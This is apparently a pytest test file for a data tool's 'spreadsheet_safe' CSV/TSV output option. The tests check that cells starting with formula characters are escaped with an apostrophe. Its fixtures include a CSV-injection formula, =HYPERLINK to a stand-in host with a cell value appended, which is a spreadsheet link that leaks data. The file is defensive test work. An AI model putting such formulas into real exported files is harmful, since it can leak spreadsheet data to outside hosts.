"""`output: {spreadsheet_safe: true}`: text a spreadsheet would run as a formula is written
as text (CSV injection), on every path a CSV leaves veil by."""

from __future__ import annotations

import io

import polars as pl
import pytest

import veil
from veil.errors import UsageError
from veil.io.writers import TextLayout

CELLS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1 (555) 0100", "-5", "@SUM(A1:A9)",
         "\tx", "\rx", "plain", "a=b", None, "'=already"]
FRAME = pl.DataFrame({"id": list(range(len(CELLS))), "text": CELLS,
                      "score": [-5.5] * len(CELLS),
                      "kind": pl.Series(["=cat"] * len(CELLS), dtype=pl.Categorical)})
GUARDED = ["'" + cell if cell is not None and cell[0] in "=+-@\t\r" else cell for cell in CELLS]
RECIPE = """\
veil: 1
name: sheet
nlp: none
output: {{spreadsheet_safe: {safe}}}
report: {{verify_output: false}}
steps:
{steps}
"""
ROW_LOCAL = "  - filter: \"id >= 0\""  # streamed from input to output
GLOBAL = "  - dedupe: {}"  # materialised, then written


def written(tmp_path, safe: bool, steps: str, name: str = "out.csv") -> pl.DataFrame:
    source = tmp_path / "in.parquet"
    FRAME.write_parquet(source)
    out = tmp_path / name
    veil.run(RECIPE.format(safe=str(safe).lower(), steps=steps), source, output=out,
             report_dir=None)
    return pl.read_csv(out, separator="\t" if name.endswith(".tsv") else ",",
                       schema_overrides={"text": pl.String, "kind": pl.String})


@pytest.mark.parametrize("steps", [ROW_LOCAL, GLOBAL])
@pytest.mark.parametrize("name", ["out.csv", "out.tsv"])
def test_spreadsheet_safe_guards_formula_starts_in_text_columns(tmp_path, steps, name):
    frame = written(tmp_path, True, steps, name).sort("id")
    assert frame["text"].to_list() == GUARDED
    assert frame["kind"].to_list() == ["'=cat"] * len(CELLS)  # categorical text too
    assert frame["score"].to_list() == [-5.5] * len(CELLS)  # numbers are never formulas


@pytest.mark.parametrize("steps", [ROW_LOCAL, GLOBAL])
def test_without_the_option_text_is_written_as_it_is(tmp_path, steps):
    frame = written(tmp_path, False, steps).sort("id")
    assert frame["text"].to_list() == CELLS


def test_spreadsheet_safe_on_standard_output():
    layout = TextLayout(spreadsheet_safe=True)
    buffer = io.BytesIO()
    layout.laid_out(FRAME).write_csv(buffer, **layout.csv_options("csv"))
    assert pl.read_csv(buffer.getvalue(), schema_overrides={"text": pl.String})[
        "text"].to_list() == GUARDED


def test_spreadsheet_safe_cli_stdout(veil_cli, tmp_path):
    FRAME.write_parquet(tmp_path / "in.parquet")
    (tmp_path / "r.yaml").write_text(RECIPE.format(safe="true", steps=ROW_LOCAL),
                                     encoding="utf-8")
    done = veil_cli("run", "r.yaml", "-i", "in.parquet", "-o", "-", "--format", "csv")
    assert done.exit_code == 0, done.stderr
    lines = done.stdout.splitlines()
    assert lines[1].startswith("0,\"'=HYPERLINK(") and lines[3].startswith("2,'-5,")


def test_spreadsheet_safe_on_parquet_is_refused(tmp_path):
    FRAME.write_parquet(tmp_path / "in.parquet")
    with pytest.raises(UsageError, match="`output.spreadsheet_safe` lays out CSV and TSV files; "
                       "this output is parquet. Remove it,"):
        veil.run(RECIPE.format(safe="true", steps=ROW_LOCAL), tmp_path / "in.parquet",
                 output=tmp_path / "out.parquet", report_dir=None)
    assert not (tmp_path / "out.parquet").exists()
